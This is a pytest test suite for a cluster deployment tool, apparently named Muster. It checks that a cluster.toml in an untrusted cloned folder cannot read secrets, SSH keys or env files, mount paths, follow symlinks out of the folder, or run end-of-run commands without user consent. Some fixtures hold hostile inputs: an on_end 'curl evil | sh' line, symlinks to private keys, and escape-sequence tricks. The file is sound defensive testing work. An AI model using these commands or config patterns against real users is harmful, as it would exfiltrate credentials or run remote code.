"""A cluster.toml that came with somebody's folder: Muster does nothing it asks for until the user allows it."""

from __future__ import annotations

import json
import os
import subprocess
import sys

import pytest

from deploy import api
from deploy.commands import main
from deploy.core.errors import USAGE
from tests.hostile.terminal import at_terminal
from tests.hostile.watch import Watch

HOSTS = '[[hosts]]\nname = "evil"\n'
# Runs as the console command does, and imports only the modules of the typed command.
PROGRAM = """
import sys
from deploy.commands import main as cli
sys.exit(cli.run(sys.argv[1:]))
"""
needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="only root can make another user's folder")


@pytest.fixture
def clone(hostile, monkeypatch):
    """A clone with a script, in which the user works, and a host that would profit from a connection."""
    there = hostile({})
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "sesame-4711")
    (there.home / ".ssh/id_ed25519").write_text("the key\n")
    there._before = there._seen()
    return Clone(there)


class Clone:
    """`says` writes its cluster.toml; `types` runs a command without a terminal, `person` one at a terminal."""

    def __init__(self, there):
        self.there, self.folder = there, there.work

    def says(self, job="", hosts=HOSTS):
        """Write its cluster.toml."""
        (self.folder / "cluster.toml").write_text(f"{hosts}[job]\n{job}\n")

    def types(self, *words):
        """Run a command; returns its exit code and what it printed."""
        return self.there.task(*words)

    def person(self, *words, answers=(), **more):
        """Run a command at a terminal, in a separate process."""
        return at_terminal(
            [sys.executable, "-c", PROGRAM, *words], self.folder, self.there.environment, answers, **more
        )

    def begins(self, *words, folder=None):
        """Start a command without a terminal, in a separate process."""
        line, pipe = [sys.executable, "-c", PROGRAM, *words], subprocess.PIPE
        return subprocess.Popen(
            line, cwd=folder or self.folder, env=self.there.environment, stdin=subprocess.DEVNULL, stdout=pipe,
            stderr=pipe, text=True,
        )  # fmt: skip

    @property
    def visits(self):
        """How many connections the host has received."""
        return len(self.there.servers["evil"]._transports)

    @property
    def answers(self):
        """The files in which Muster keeps what this user has allowed."""
        return sorted((self.there.folder / "config/muster/allowed").glob("*"))


# What a cluster.toml asks for, and the words in which Muster asks a person to allow it.
WISHES = {
    "a variable of the shell": ('secrets = ["AWS_SECRET_ACCESS_KEY"]', "secret AWS_SECRET_ACCESS_KEY from this shell"),
    "a private key": ('secrets = [{ name = "K", file = "~/.ssh/id_ed25519" }]', "secret K from HOME/.ssh/id_ed25519"),
    "a key as a file": (
        'secrets = [{ name = "k", file = "~/.ssh/id_ed25519", as_file = true }]',
        "secret k from HOME/.ssh/id_ed25519, as a file",
    ),
    "a key behind a link": ('secrets = [{ name = "K", file = "key" }]', "secret K from HOME/.ssh/id_ed25519"),
    "a file of variables": ('env_file = "own.env"', "variables of WORK/own.env"),
    "what such a file takes from the shell": (
        'env_file = "sly.env"',
        "variables of WORK/sly.env, with AWS_SECRET_ACCESS_KEY, HOME of this shell",
    ),
    "a file of variables outside": ('env_file = "../home/important"', "variables of HOME/important"),
    "a mount": ('mounts = ["/home/me/.ssh:/x:ro"]', "mount /home/me/.ssh:/x:ro on all hosts"),
    "the home as the folder": ('folder = "~"', "folder HOME is sent to the hosts"),
    "the home behind a link": ('folder = "data"', "folder HOME is sent to the hosts"),
    "what the folder would keep": ('include = [".env"]', "include .env is sent, even if it is a credential"),
    "a folder as data": ('[[data]]\nfolder = "~/.ssh"\ntarget = "/d"', "data all of HOME/.ssh, to /d on the hosts"),
    "a link as data": ('[[data]]\nfolder = "data"\ntarget = "/d"', "data all of HOME, to /d on the hosts"),
    "its own folder as data": ('[[data]]\nfolder = "."\ntarget = "/d"', "data all of WORK, to /d on the hosts"),
    "an image": ('image = "evil/trainer"', "image evil/trainer"),
    "a build": ('dockerfile = "Dockerfile"', "dockerfile WORK/Dockerfile is built on this machine"),
    "a command at the end": ('on_end = "curl evil | sh"', "on-end curl evil | sh once the run has ended"),
    "an address at the end": ('on_end = "https://evil/x"', "on-end https://evil/x once the run has ended"),
    "another's user id": ("user = 1000", "user 1000 owns the run's processes on the hosts"),
    "a network": ("overlay = true", "overlay the run makes its own network"),
    "a script behind a link": ('script = "steals.py"', "script steals.py leads to HOME/important"),
    "requirements behind a link": ('requirements = "needs.txt"', "requirements needs.txt leads to HOME/important"),
    "all GPUs": ('environment = { NVIDIA_VISIBLE_DEVICES = "all" }', "variable NVIDIA_VISIBLE_DEVICES=all"),
    "all GPUs of AMD": ('environment = { AMD_VISIBLE_DEVICES = "all" }', "variable AMD_VISIBLE_DEVICES=all"),
    "mounts of Ascend": ('environment = { ASCEND_RUNTIME_MOUNTS = "x" }', "variable ASCEND_RUNTIME_MOUNTS=x"),
}


@pytest.mark.holds("folder-asks")
@pytest.mark.parametrize(("job", "words"), WISHES.values(), ids=WISHES)
def test_a_files_wish_is_refused_by_name_without_a_terminal_and_granted_once_allowed(clone, job, words):
    """Before that, Muster does not contact the host or print the secret, and the list shows each wish exactly."""
    fill(clone)
    clone.says(job)
    asked = words.replace("HOME", str(clone.there.home), 1) if "of this shell" not in words else words
    asked = asked.replace("WORK", str(clone.folder))
    refused = clone.types("status")
    assert refused.code == USAGE
    assert f"{asked}" in refused.output
    assert "--allow-folder" in refused.err
    assert (clone.visits, clone.answers) == (0, [])
    allowed = clone.types("status", "--allow-folder")
    assert asked in allowed.output, "what is allowed is said"
    assert clone.visits == 1
    again = clone.types("status")
    assert asked in again.output, "it is said each time"
    assert "things that only you can allow" not in again.output
    assert clone.visits == 2


def fill(clone):
    """Create the files that WISHES refers to."""
    (clone.folder / "own.env").write_text("A=1\nB=${A}\n")
    # In the second line, `A` is the secret's value, whatever a later line sets.
    (clone.folder / "sly.env").write_text("A=${AWS_SECRET_ACCESS_KEY}\nB=${A}\nA=1\nHOME\n")
    (clone.folder / "Dockerfile").write_text("FROM scratch\n")
    (clone.there.home / "important").write_text("NAME=value\n")
    for name, target in (
        ("key", ".ssh/id_ed25519"),
        ("data", ""),
        ("steals.py", "important"),
        ("needs.txt", "important"),
    ):
        (clone.folder / name).symlink_to(clone.there.home / target)


def test_a_files_address_for_a_host_needs_consent_even_if_the_host_is_typed(clone):
    """In somebody's file, `--hosts a` may be a machine of theirs."""
    clone.says(hosts='[[hosts]]\nname = "a"\naddress = "evil"\nuser = "x"\ngateway = "evil:22"\ninterface = "eth9"\n')
    refused = clone.types("status", "--hosts", "a")
    assert refused.code == USAGE
    assert "host a at x@evil through evil:22 on eth9" in refused.output
    assert clone.visits == 0
    (clone.folder / "cluster.toml").unlink()
    typed = clone.types("status", "--hosts", "evil")
    assert "things that only you can allow" not in typed.output, "what is typed is never asked for"
    assert clone.visits == 1


def commands():
    """Every command that reads a cluster.toml, with the other words that it needs."""
    more = {"port": ["80"], "exec": ["--", "true"], "leave": ["--hosts", "evil"], "join": ["--hosts", "evil"]}
    # Without the option --cluster, these commands are about this machine.
    more |= {name: ["--cluster", "cluster.toml"] for name in ("runs", "down", "why", "tensorboard", "board")}
    more |= {"bootstrap": ["--yes"], "clean": ["--yes"], "export": ["--to", "jobset"]}
    for each in main.every_command():
        # `resume` reads this user's records first; it reads a cluster.toml only when it turns into a deploy.
        if "cluster" in {param.name for param in each.params} and each.name != "resume":
            yield each.name, more.get(each.name, [])


@pytest.mark.holds("folder-asks")
@pytest.mark.parametrize(("name", "words"), commands(), ids=[name for name, _ in commands()])
def test_no_command_uses_a_cluster_toml_that_nobody_allowed(clone, name, words):
    clone.says('secrets = ["AWS_SECRET_ACCESS_KEY"]')
    refused = clone.types(name, *words)
    assert (refused.code, clone.visits) == (USAGE, 0), refused.output
    assert "secret AWS_SECRET_ACCESS_KEY from this shell" in refused.output
    assert "sesame" not in refused.output
    named = clone.types(name, "--cluster", str(clone.folder / "cluster.toml"), *words[2 * ("--cluster" in words) :])
    assert (named.code, clone.visits) == (USAGE, 0), named.output


@pytest.fixture(scope="module")
def opened():
    """The paths that this process opens. One hook for all tests here, because Python cannot remove an audit hook."""
    paths = []
    sys.addaudithook(lambda event, args: paths.append(str(args[0])) if event == "open" else None)
    return paths


# After reading the file, `login` waits for a person to type to ssh, and `board` waits for browsers.
READERS = [pytest.param(name, words, id=name) for name, words in commands() if name not in ("login", "board")]


@pytest.mark.parametrize(("name", "words"), READERS)
def test_a_command_reads_the_file_once_so_it_uses_what_was_asked_about(clone, opened, name, words):
    file = clone.folder.parent / "lab.toml"  # inside the folder, a deploy would also open it to send it
    file.write_text(f'{HOSTS}[job]\nscript = "train.py"\n')
    opened.clear()
    clone.types(name, "--cluster", str(file), "--allow-folder", *words[2 * ("--cluster" in words) :])
    assert opened.count(str(file)) == 1


def test_the_python_api_raises_until_it_is_told_to_allow_it(clone, capsys):
    clone.says('secrets = ["AWS_SECRET_ACCESS_KEY"]')
    with pytest.raises(api.UsageError, match="AWS_SECRET_ACCESS_KEY") as refused:
        api.Cluster()
    assert "allow_folder=True" in refused.value.hint
    cluster = api.Cluster(allow_folder=True)
    assert "AWS_SECRET_ACCESS_KEY" in capsys.readouterr().err
    # The file has grown since then: its owner must allow the addition too, unless they pass allow_folder each time.
    clone.says('secrets = ["AWS_SECRET_ACCESS_KEY", "PATH"]')
    with pytest.raises(api.UsageError, match="secret PATH from this shell"):
        api.Cluster()
    assert cluster.hosts == ("evil",)


def test_harmless_settings_need_no_consent(clone):
    clone.says(
        'script = "train.py"\nfolder = "."\nrequirements = "no"\nrestarts = 1\nrank = "all"\nobserve = false\n'
        'processes = 2\ngpus = 0\nshm_size = "1g"\nmemory = "2g"\npids = 100\nmax_hours = 1\nwait_lost = "90s"\n'
        'min_nodes = 1\nfolder_limit = "1g"\ncache = false\nseparate = true\nkeep = ["/data"]\n'
        "environment = { SEED = 1, LD_PRELOAD = '/x' }\n"
    )
    refused = clone.types("status")
    asked = refused.err.partition("to ask you on:\n")[2].partition("hint:")[0].split("\n")
    assert [line.strip() for line in asked if line.strip()] == ["host evil at evil"]
    assert "muster status --allow-folder" in refused.err
    said = clone.types("status", "--allow-folder").err
    assert {"script train.py", "restarts 1", "keep /data"} <= set(_sets(said)), "what is not asked is said"


def _sets(said):
    """The settings that a command reports as set by the file without asking."""
    (line,) = [line for line in said.splitlines() if line.startswith("cluster.toml sets ")]
    return line.removeprefix("cluster.toml sets ").split("; ")


@pytest.mark.holds("stays-in-the-folder")
def test_include_never_leads_out_of_the_folder(clone):
    """Nobody can allow this: users who want the file sent must remove the link."""
    (clone.folder / "vocab").symlink_to(clone.there.home / ".ssh")
    clone.says('include = ["vocab/id_ed25519"]')
    refused = clone.types("push", "--allow-folder")
    assert refused.code == USAGE
    assert f"vocab/id_ed25519 is a link out of the folder, to {clone.there.home}/.ssh/id_ed25519" in refused.output
    assert clone.visits == 0


def test_a_person_is_asked_once_and_again_only_for_what_is_new(clone):
    clone.says('secrets = ["AWS_SECRET_ACCESS_KEY"]')
    first = clone.person("status", answers=["y"])
    assert first.questions == 1
    assert "host evil at evil\n" in first.screen
    assert "secret AWS_SECRET_ACCESS_KEY from this shell\n" in first.screen
    (kept,) = clone.answers
    assert str(kept) in first.screen, "it says where the answer is"
    assert (kept.stat().st_mode & 0o777, kept.parent.stat().st_mode & 0o777) == (0o600, 0o700)
    second = clone.person("status")
    assert second.questions == 0
    assert "secret AWS_SECRET_ACCESS_KEY from this shell" in second.screen
    clone.says('secrets = ["AWS_SECRET_ACCESS_KEY"]\nmounts = ["/etc:/etc2"]')
    third = clone.person("status", answers=["y"])
    question = third.screen.partition("asks for things that only you")[2].partition("[y/N]")[0]
    assert "mount /etc:/etc2 on all hosts" in question
    assert "AWS_SECRET" not in question, "only what is new is asked"
    kept.unlink()
    assert clone.person("status", answers=["n"]).questions == 1, "a deleted answer is taken back"


@pytest.mark.parametrize("answer", [["n"], [""], ["maybe"], []], ids=["no", "nothing", "maybe", "the end"])
def test_anything_but_yes_is_no_and_nothing_is_kept(clone, answer):
    clone.says()
    said = clone.person("status", answers=answer)
    assert (said.code, said.questions, clone.visits, clone.answers) == (USAGE, 1, 0, [])
    assert "nothing was done" in said.screen


def test_ctrl_c_at_the_question_ends_the_command(clone):
    clone.says()
    said = clone.person("deploy", "--script", "train.py", answers=["\x03"])
    assert said.code != 0
    assert (clone.visits, clone.answers) == (0, [])


@pytest.mark.holds("folder-asks")
def test_a_command_uses_what_it_showed_even_if_the_file_has_changed_since(clone):
    """The folder's owner waits until the question is on the screen, then changes the file."""
    clone.says()

    def meanwhile():
        clone.says('secrets = ["AWS_SECRET_ACCESS_KEY"]', '[[hosts]]\nname = "b"\naddress = "203.0.113.9"\n')

    said = clone.person("deploy", "--script", "train.py", answers=["y"], meanwhile=meanwhile)
    assert said.questions == 1
    assert "203.0.113.9" not in said.screen
    assert clone.visits == 1, "the host that was shown"
    later = clone.person("status")
    assert (later.code, later.questions) == (USAGE, 1), "the other file was not allowed"


def test_a_secret_that_becomes_a_link_after_the_question_is_not_read(clone):
    token = clone.folder / "token"
    token.write_text("harmless")
    clone.says('secrets = [{ name = "TOKEN", file = "token" }]')

    def meanwhile():
        token.unlink()
        token.symlink_to(clone.there.home / ".ssh/id_ed25519")

    said = clone.person("deploy", "--script", "train.py", answers=["y"], meanwhile=meanwhile)
    assert said.code == USAGE
    assert "secret TOKEN: cannot read" in said.screen
    assert clone.visits == 0


def test_an_answer_for_an_env_file_covers_only_the_shell_variables_it_took_then(clone):
    (clone.folder / "own.env").write_text("A=1\n")
    clone.says('env_file = "own.env"')
    assert clone.types("status", "--allow-folder").code != USAGE
    (clone.folder / "own.env").write_text("A=1\nAWS_SECRET_ACCESS_KEY\n")
    refused = clone.types("status")
    assert refused.code == USAGE
    assert "with AWS_SECRET_ACCESS_KEY of this shell" in refused.output


def test_an_env_file_outside_the_folder_is_not_opened_before_a_yes(clone):
    watch = Watch(clone.there.home)
    clone.says('env_file = "../home/important"')
    refused = clone.types("status")
    assert f"variables of {clone.there.home}/important" in refused.err
    assert not [name for name in watch.opened() if name.endswith("important")]
    watch.close()
    clone.says('env_file = "../outside/file"')
    (clone.there.folder / "outside/file").write_text("AWS_SECRET_ACCESS_KEY\n")
    assert "AWS_SECRET_ACCESS_KEY" not in clone.types("status").err
    asked = clone.person("status", answers=["y", "n"])
    assert asked.questions == 2, "what the file takes from the shell is asked for once it may be read"
    assert "AWS_SECRET_ACCESS_KEY of this shell" in asked.screen


def test_json_output_has_only_rows_and_the_list_goes_to_standard_error(clone):
    clone.says('mounts = ["/data:/data"]')
    said = clone.types("status", "--allow-folder", "--json")
    assert [json.loads(line)["host"] for line in said.out.splitlines()] == ["evil"]
    assert "cluster.toml: host evil at evil; mount /data:/data on all hosts" in said.err
    assert (
        clone.types("deploy", "--dry-run", "--script", "train.py").output.count("mount /data:/data on all hosts") == 1
    )


# Tricks by which text in a file could hide or forge what a person reads.
TRICKS = {
    "clears the screen": ("/a\\u001b[2J\\u001b[H", "/a\\x1b[2J\\x1b[H"),
    "shows itself backwards": ("/a\\u202egpj.b", "/a\\u202egpj.b"),
    "has no width": ("/a\\u200bb", "/a\\u200bb"),
    "looks like another": ("/d\\u0430ta", "/d\\u0430ta"),
    "has blanks that are none": ("/a\\u00a0b", "/a\\xa0b"),
}


@pytest.mark.parametrize(("word", "shown"), TRICKS.values(), ids=TRICKS)
def test_text_from_a_file_is_shown_in_plain_ascii(clone, word, shown):
    clone.says(f'on_end = "run {word}"')
    refused = clone.types("status")
    assert f"on-end run {shown} once" in refused.output
    assert refused.err.isascii()


def test_neither_end_of_a_long_word_can_hide(clone):
    clone.says(f'on_end = "echo hello {"x" * 5000} ; curl evil | sh"')
    first = clone.types("status")
    assert "on-end echo hello xxx" in first.output
    assert "curl evil | sh once the run has ended" in first.output
    assert len(first.err) < 2000
    assert clone.types("status", "--allow-folder").code != USAGE
    clone.says(f'on_end = "echo hello {"x" * 2500}y{"x" * 2499} ; curl evil | sh"')
    assert clone.types("status").code == USAGE, "the answer holds for every letter, shown or not"


@pytest.mark.holds("folder-asks")
def test_ten_thousand_hosts_do_not_push_the_one_line_off_the_screen(clone):
    hosts = "".join(
        f'[[hosts]]\nname = "gpu-{number}"\naddress = "10.{number >> 8}.{number & 255}.7"\n' for number in range(9999)
    )
    clone.says('secrets = ["AWS_SECRET_ACCESS_KEY"]', hosts + HOSTS)
    refused = clone.types("status")
    lines = refused.err.splitlines()
    assert refused.code == USAGE
    assert len(lines) < 70
    assert "secret AWS_SECRET_ACCESS_KEY from this shell" in refused.err
    assert clone.visits == 0


def test_a_list_too_long_to_read_is_not_asked_at_a_terminal(clone):
    names = ", ".join(f'"NAME_{number}"' for number in range(500))
    clone.says(f"secrets = [{names}]")
    said = clone.person("status", answers=["y"])
    assert (said.code, said.questions, clone.visits) == (USAGE, 0, 0)
    assert "too many to read" in said.screen


@pytest.mark.parametrize(
    "text",
    [
        f'{HOSTS}[job]\nsecrets = []\nsecrets = ["A"]\n',
        f'{HOSTS}[job]\nimage = "a"\n[job]\nimage = "b"\n',
        "x" * (2 << 20),
    ],
    ids=["a key twice", "a table twice", "two megabytes"],
)
def test_a_file_with_two_readings_is_refused(clone, text):
    (clone.folder / "cluster.toml").write_text(text)
    refused = clone.types("status", "--allow-folder")
    assert (refused.code, clone.visits, clone.answers) == (USAGE, 0, [])


def planted(clone):
    """This user's answer that allows what the clone asks for: its path and text."""
    clone.says('secrets = ["AWS_SECRET_ACCESS_KEY"]')
    assert clone.types("status", "--allow-folder").code != USAGE
    (kept,) = clone.answers
    return kept, kept.read_text()


PLANTS = {
    "unsealed": lambda kept, text: kept.write_text(
        json.dumps({k: v for k, v in json.loads(text).items() if k != "seal"})
    ),
    "with more in it": lambda kept, text: kept.write_text(text.replace("AWS_SECRET_ACCESS_KEY", "PATH")),
    "readable by others": lambda kept, text: kept.chmod(0o644),
    "in a folder that others write": lambda kept, text: kept.parent.chmod(0o777),
    "no JSON": lambda kept, text: kept.write_text("[" * 100_000),
    "a folder": lambda kept, text: (kept.unlink(), kept.mkdir()),
    "a pipe": lambda kept, text: (kept.unlink(), os.mkfifo(kept, 0o600)),
    "a link": lambda kept, text: (kept.rename(kept.with_suffix(".x")), kept.symlink_to(kept.with_suffix(".x"))),
    "in a linked folder": lambda kept, text: (
        kept.parent.rename(kept.parent.with_name("elsewhere")),
        kept.parent.symlink_to("elsewhere"),
    ),
}


@pytest.mark.holds("answers-are-yours")
@pytest.mark.parametrize("plant", PLANTS.values(), ids=PLANTS)
def test_an_answer_that_is_not_the_users_own_is_not_believed(clone, plant):
    plant(*planted(clone))
    refused = clone.types("status")
    assert refused.code == USAGE
    assert "secret AWS_SECRET_ACCESS_KEY from this shell" in refused.output


@needs_root
def test_an_answer_of_another_user_is_not_believed(clone):
    kept, _ = planted(clone)
    os.chown(kept, 1234, 1234)
    assert clone.types("status").code == USAGE


@pytest.mark.holds("answers-are-yours")
def test_an_answer_holds_for_the_same_folder_and_for_no_other_at_its_path(clone):
    """Neither for another clone at the same path, nor for the same files elsewhere."""
    planted(clone)
    elsewhere = clone.there.folder / "elsewhere"
    clone.folder.rename(elsewhere)
    clone.folder.mkdir()
    (clone.folder / "cluster.toml").write_bytes((elsewhere / "cluster.toml").read_bytes())
    for folder in (clone.folder, elsewhere):
        process = clone.begins("status", folder=folder)
        _, err = process.communicate(timeout=60)
        assert process.returncode == USAGE, err
        assert "things that only you can allow" in err


@pytest.mark.parametrize("place", ["by its settings", "by a link"])
def test_answers_stored_in_the_asking_folder_are_not_believed_and_muster_says_so(clone, monkeypatch, place):
    """A clone can contain the configuration folder if the shell's own settings point there."""
    clone.says()
    monkeypatch.setenv("XDG_CONFIG_HOME", str(clone.folder / "config"))
    monkeypatch.setenv("XDG_STATE_HOME", str(clone.folder / "state"))
    if place == "by a link":
        (clone.there.folder / "config/muster").mkdir(parents=True)
        monkeypatch.setenv("XDG_CONFIG_HOME", str(clone.there.folder / "config"))
        (clone.there.folder / "config/muster/allowed").symlink_to(clone.folder / "allowed")
        (clone.folder / "allowed").mkdir(mode=0o700)
    said = clone.types("status", "--allow-folder")
    assert "your answer counts for this command only" in said.output
    assert clone.types("status").code == USAGE


def test_if_no_answer_can_be_kept_a_person_is_asked_each_time_and_told_why(clone, monkeypatch):
    (clone.there.folder / "config").write_text("a file in the place of the folder")
    clone.says()
    for _ in range(2):
        said = clone.person("status", answers=["y"])
        assert said.questions == 1
        assert "your answer counts for this command only" in said.screen
    assert clone.visits == 2


def test_two_simultaneous_commands_both_keep_their_answer(clone):
    clone.says('secrets = ["AWS_SECRET_ACCESS_KEY"]')
    both = [clone.begins("status", "--allow-folder") for _ in range(2)]
    for process in both:
        _, err = process.communicate(timeout=60)
        assert "Traceback" not in err
        assert "secret AWS_SECRET_ACCESS_KEY from this shell" in err
    assert [path.suffix for path in clone.answers] == [".json"]
    assert "things that only you can allow" not in clone.types("status").output


def test_completion_reads_names_and_neither_asks_nor_connects(clone):
    clone.says('secrets = ["AWS_SECRET_ACCESS_KEY"]')
    text = clone.types("completion", "--shell", "bash").out
    done = subprocess.run(["bash", "-c", f"{text}\n_muster_words status --hosts ''"], cwd=clone.folder,
                          env={**clone.there.environment}, capture_output=True, text=True, check=False)  # fmt: skip
    assert "evil" in done.stdout.split()
    assert (clone.visits, clone.answers) == (0, [])


@pytest.fixture
def others(clone):
    """The clone, owned by another user."""
    for folder, below, files in os.walk(clone.folder):
        for name in (folder, *(os.path.join(folder, each) for each in (*below, *files))):
            os.chown(name, 1234, 1234)
    return clone


@needs_root
@pytest.mark.holds("others-folder")
def test_in_another_users_folder_every_setting_is_asked_for(others, monkeypatch):
    others.says('script = "train.py"\nmemory = "2g"')
    refused = others.types("status")
    for words in ("owner uid 1234", "script train.py", "memory 2g", "host evil"):
        assert words in refused.output
    monkeypatch.setenv("SUDO_UID", "1234")
    os.chown(others.folder / "cluster.toml", 1234, 1234)
    assert "owner" not in others.types("status").output, "who called sudo is no other user"


@needs_root
@pytest.mark.holds("others-folder")
@pytest.mark.parametrize("part", ["the folder", "the work tree above", ".git", "a folder between"])
def test_a_script_of_another_users_folder_does_not_run_as_a_process_before_a_yes(clone, part):
    """Git calls this dubious ownership."""
    inner = clone.folder / "sub/inner"
    inner.mkdir(parents=True)
    (clone.folder / ".git").mkdir()
    ran = clone.there.folder / "ran"
    (inner / "train.py").write_text(f"open({str(ran)!r}, 'w')")
    owned = {"the folder": inner, "the work tree above": clone.folder, ".git": clone.folder / ".git"}
    os.chown(owned.get(part, inner.parent), 1234, 1234)
    words = ("up", "--backend", "processes", "--folder", "sub/inner", "--script", "train.py")
    refused = clone.types(*words)
    assert refused.code == USAGE
    assert "script of uid 1234, who owns this folder, runs on this machine as you" in refused.output
    said = clone.person(*words, answers=["n"])
    assert (said.code, said.questions) == (USAGE, 1)
    recipe = clone.types("up", "--backend", "processes", "--args", "--recipe sub/inner/train.py")
    assert (recipe.code, "who owns this folder" in recipe.output) == (USAGE, True), "a recipe for Muster's own trainer"
    assert not ran.exists()


def test_a_user_without_a_home_is_asked_each_time(clone, monkeypatch):
    """Example: a container that runs as a number without a user. There, `~` would be a folder in the clone."""
    clone.says()
    for name in ("XDG_CONFIG_HOME", "XDG_STATE_HOME"):
        monkeypatch.setenv(name, "relative")
    monkeypatch.setattr(os.path, "expanduser", lambda path: path)
    assert (
        "your answer counts for this command only: this user has no home" in clone.types("status", "--allow-folder").err
    )
    assert clone.types("status").code == USAGE
    assert {path.name for path in clone.folder.iterdir()} <= {"cluster.toml", "runs", "train.py"}


def test_the_verdict_of_a_preflight_stays_the_only_object_on_standard_output(clone):
    clone.says('mounts = ["/data:/data"]')
    said = clone.types("preflight", "--quick", "--json", "--allow-folder")
    assert isinstance(json.loads(said.out), dict)
    assert "mount /data:/data on all hosts" in said.err


@pytest.mark.holds("stays-in-the-folder")
def test_a_cluster_toml_that_leads_out_of_the_folder_is_not_read(clone, tmp_path):
    outside = tmp_path / "credentials"
    outside.write_text("[default]\naws_secret_access_key = canary/1\n")
    (clone.folder / "cluster.toml").unlink(missing_ok=True)
    (clone.folder / "cluster.toml").symlink_to(outside)
    refused = clone.types("status")
    assert refused.code == USAGE
    assert f"cluster.toml is a link out of this folder, to {outside}" in refused.err
    assert "TOML" not in refused.output


@pytest.mark.holds("stays-in-the-folder")
def test_runs_are_written_through_a_link_of_the_folder_only_after_a_yes(clone):
    """The link came with the clone and points to a folder where a login looks for programs."""
    place = clone.there.home / "bin"
    place.mkdir()
    clone.there._before = clone.there._seen()
    for path in sorted(clone.there.runs.rglob("*"), reverse=True):
        path.unlink() if path.is_file() else path.rmdir()
    clone.there.runs.rmdir()
    clone.there.runs.symlink_to(place)
    words = ("up", "--backend", "processes", "--script", "train.py", "--run", "r1")
    refused = clone.types(*words)
    assert refused.code == USAGE
    assert f"runs are written to {place}, to which the link runs points" in refused.output
    assert list(place.iterdir()) == []
    assert clone.person(*words, answers=["n"]).questions == 1
    assert list(place.iterdir()) == []


def linked(clone, name, target):
    """Replace the clone's `runs`, or one run in it, with a link, as if it had come with the clone."""
    for path in sorted(clone.there.runs.rglob("*"), reverse=True):
        path.unlink() if path.is_file() else path.rmdir()
    if name == "runs":
        clone.there.runs.rmdir()
    (clone.folder / name).symlink_to(target)


@pytest.mark.holds("stays-in-the-folder")
@pytest.mark.parametrize(
    "words", [("report", "project"), ("fetch", "--run", "project"), ("down", "--run", "project", "--delete")]
)
def test_a_folder_next_to_the_clone_is_not_written_or_deleted_as_a_run_before_a_yes(clone, words):
    """`runs` points to the folder that has all clones, where each of the user's projects looks like a run."""
    project = clone.there.folder / "project"
    project.mkdir()
    (project / "report.html").write_text("mine\n")
    linked(clone, "runs", "..")
    refused = clone.types(*words)
    assert refused.code == USAGE
    assert f"runs are written to {clone.there.folder}, to which the link runs points" in refused.output
    assert (project / "report.html").read_text() == "mine\n"
    assert clone.types(words[0], "--allow-folder", *words[1:]).code == 0


@pytest.mark.holds("stays-in-the-folder")
@pytest.mark.parametrize("name", ["latest", "r1"])
def test_a_link_in_runs_is_not_followed_to_a_run_elsewhere(clone, name):
    project = clone.there.folder / "project"
    (project / "logs").mkdir(parents=True)
    (project / "report.html").write_text("mine\n")
    (project / "logs/rank-0.log").write_text("sesame\n")
    (project / "outcome.json").write_text("{}\n")
    linked(clone, f"runs/{name}", project)
    for words in (("report", name), *((task, "--run", name) for task in ("fetch", "logs", "stop", "attach"))):
        refused = clone.types(*words)
        assert refused.code == USAGE, refused.output
        assert "sesame" not in refused.output
    assert (project / "report.html").read_text() == "mine\n"
